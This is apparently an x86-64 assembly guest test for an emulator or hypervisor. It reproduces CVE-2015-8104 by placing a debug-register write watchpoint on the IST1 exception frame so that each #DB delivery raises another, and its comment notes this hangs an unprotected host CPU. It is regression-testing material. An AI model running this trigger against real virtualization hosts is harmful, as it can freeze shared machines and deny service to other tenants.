/*
 * dbloop (64-bit): a #DB whose delivery raises the next one
 * (CVE-2015-8104). The #DB gate uses IST1, so every delivery pushes its
 * frame at the same place; DR0 watches the frame's SS slot for writes.
 * One write to that slot starts it: each delivery hits the breakpoint
 * again, before the handler's first instruction. Reports 0xdb on
 * PORT_VAL32 when armed. Unintercepted, the CPU loops in microcode and
 * the host CPU hangs; intercepted, each #DB passes through the host and
 * RUN ends on a signal. If the emulator does not start the loop, the
 * guest reports 0xdb0 (no #DB at all) or 0xdb1 (the handler ran), then
 * spins.
 */
#include "guest.h"

#define IST_TOP	0x20000

	.globl _start
_start:
	set_gate	1, db_handler
	movb	$1, idt + 1 * 16 + 4		/* IST1 */
	/* TSS descriptor (16 bytes) at GDT 0x18 for the tss below */
	lea	tss(%rip), %rax
	mov	%ax, gdt + 0x18 + 2
	shr	$16, %rax
	mov	%al, gdt + 0x18 + 4
	mov	%ah, gdt + 0x18 + 7
	shr	$16, %rax
	mov	%eax, gdt + 0x18 + 8
	movq	$IST_TOP, tss + 36		/* IST1 */
	load_tables
	mov	$0x18, %ax
	ltr	%ax

	mov	$IST_TOP - 8, %eax		/* the frame's SS slot */
	mov	%rax, %db0
	mov	$1 | (1 << 16) | (2 << 18), %eax	/* L0, write, 8 bytes */
	mov	%rax, %db7
	mov	$0xdb, %eax
	mov	$PORT_VAL32, %dx
	out	%eax, %dx
	movq	$0, IST_TOP - 8			/* hits DR0 */
	mov	$0xdb0, %eax			/* no #DB came at all */
	out	%eax, %dx
1:	pause
	jmp	1b

db_handler:
	mov	$0xdb1, %eax
	mov	$PORT_VAL32, %dx
	out	%eax, %dx
1:	pause
	jmp	1b

	.balign 16
tss:	.fill	104, 1, 0

	.balign 8
gdt:	.quad	0
	.quad	0x00af9b000000ffff	/* 0x08: 64-bit code */
	.quad	0x00cf93000000ffff	/* 0x10: data */
	.quad	0x0000890000000067	/* 0x18: 64-bit TSS, limit 0x67 */
	.quad	0
gdtr:	.word	5 * 8 - 1
	.quad	gdt
	.balign 16
idt:	.fill	2 * 16, 1, 0
idtr:	.word	2 * 16 - 1
	.quad	idt
